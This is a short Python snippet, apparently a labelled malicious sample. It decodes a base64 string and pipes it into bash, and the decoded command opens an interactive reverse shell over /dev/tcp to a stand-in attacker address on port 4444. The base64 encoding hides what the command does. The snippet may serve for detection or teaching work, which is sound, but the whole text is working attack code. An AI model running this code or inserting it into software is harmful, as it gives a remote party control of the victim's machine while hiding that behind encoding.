# Malicious, obfuscated: Python hands bash a base64 string that decodes to a /dev/tcp reverse shell.
import os

os.system("echo YmFzaCAtaSA+JiAvZGV2L3RjcC8yMDMuMC4xMTMuMTAvNDQ0NCAwPiYx | base64 -d | bash")
